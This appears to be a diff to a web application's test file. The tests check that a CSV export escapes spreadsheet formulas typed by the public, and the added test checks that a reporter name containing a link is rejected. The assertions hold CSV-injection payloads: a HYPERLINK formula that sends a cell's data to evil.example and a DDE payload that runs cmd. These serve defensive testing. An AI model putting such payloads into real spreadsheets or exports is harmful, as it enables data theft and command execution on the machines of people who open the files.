@@ -387,3 +387,12 @@ def test_door_list_csv_keeps_formulas_typed_by_the_public_as_text(client, make_e
     rows = list(csv.reader(io.StringIO(body)))
     assert rows[1][2:4] == ['\'=HYPERLINK("http://evil.example/?"&C3,"Bấm")', "'-2+3"]
     assert rows[2][2:4] == ["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]
+
+
+def test_a_reporter_name_with_a_link_is_refused(client, make_event):
+    """Rejecting spam requests in bulk mailed "Chào <name with a link>" to each address typed."""
+    event = make_event("Họp báo có spam")
+    refused = ask(client, event, reporter_name="Xem ngay http://lua-dao.example")
+    assert refused.status_code == 400
+    assert "Họ tên không được chứa đường dẫn" in refused.content.decode()
+    assert not Accreditation.objects.exists()
